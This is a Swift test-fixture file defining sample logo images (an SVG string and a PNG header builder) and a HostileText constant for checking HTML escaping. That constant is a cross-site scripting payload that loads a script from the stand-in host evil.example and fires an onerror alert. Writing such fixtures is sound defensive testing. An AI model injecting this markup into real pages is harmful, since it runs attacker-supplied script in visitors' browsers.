/// Images that are good or bad for a logo.
enum TestImages {
    static let svg = #"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1z"/></svg>"#

    /// A PNG header with this size, and a first chunk of this name.
    static func png(_ width: UInt32, _ height: UInt32, chunk: String = "IHDR") -> [UInt8] {
        let size = [width, height].flatMap { value in (0..<4).map { UInt8(truncatingIfNeeded: value >> (24 - 8 * $0)) }
        }
        return [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13] + Array(chunk.utf8) + size
            + [8, 6, 0, 0, 0, 0, 0, 0, 0]
    }
}

/// Text that would change a page that does not escape it.
enum HostileText {
    static let markup = #"</strong><script src="//evil.example/x.js">alert(1)</script><img src=x onerror='alert(1)'>"&"#
}
